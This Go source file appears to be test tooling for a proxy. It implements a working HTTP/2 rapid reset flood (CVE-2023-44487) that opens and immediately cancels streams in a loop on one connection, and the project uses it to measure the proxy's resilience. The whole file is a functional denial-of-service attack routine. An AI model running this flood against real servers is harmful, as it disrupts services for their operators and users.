// Package h2flood is an HTTP/2 rapid reset client (CVE-2023-44487): on one
// prior-knowledge connection it opens streams and resets each at once,
// HEADERS then RST_STREAM(CANCEL), as fast as the socket takes them. The
// proxy's tests and bench/rapidreset use it to check and measure how the
// built-in proxy holds up.
package h2flood

import (
	"bytes"
	"io"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Result is what one connection's flood did.
type Result struct {
	Sent   int  // streams opened and reset
	Closed bool // the server closed the connection (not the deadline)
}

// Flood sends up to max reset streams for GET path at authority on c,
// reading and discarding what the server sends. It returns when the
// server closes the connection or c's deadline passes (after sending max
// streams it waits for either); set a deadline.
func Flood(c net.Conn, authority, path string, max int) Result {
	end := make(chan bool, 1)
	go func() {
		_, err := io.Copy(io.Discard, c)
		ne, ok := err.(net.Error)
		end <- !(ok && ne.Timeout())
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", authority}, {":path", path}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	fr := http2.NewFramer(c, nil)
	sent := 0
	if _, err := io.WriteString(c, http2.ClientPreface); err == nil && fr.WriteSettings() == nil {
		for ; sent < max; sent++ {
			id := uint32(2*sent + 1)
			if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true}) != nil ||
				fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
				break
			}
		}
	}
	return Result{Sent: sent, Closed: <-end}
}
